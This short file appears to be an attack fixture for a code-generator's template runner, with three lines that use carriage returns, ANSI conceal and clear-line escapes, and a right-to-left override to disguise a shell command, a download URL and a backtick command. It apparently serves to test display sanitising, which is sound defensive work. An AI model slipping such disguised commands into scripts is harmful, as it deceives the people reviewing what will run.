# promise: (see attack.yml) — a command, a URL and a backtick command with controls.
run "touch X; exit 0 #\r\e[2K  run  git init"
get "https://example.com/a\e[8m.rb", "a.rb"
`echo \u202Etini tig`
